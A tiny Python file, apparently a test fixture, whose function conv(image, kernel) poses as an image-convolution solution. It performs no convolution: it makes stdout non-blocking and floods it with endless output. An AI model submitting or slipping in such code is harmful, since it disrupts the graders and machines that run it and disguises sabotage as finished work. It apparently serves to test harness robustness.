# Makes its stdout non-blocking and floods it.
import fcntl
import os


def conv(image, kernel):
    fcntl.fcntl(1, fcntl.F_SETFL, fcntl.fcntl(1, fcntl.F_GETFL) | os.O_NONBLOCK)
    while True:
        os.write(1, b"x" * 65536)
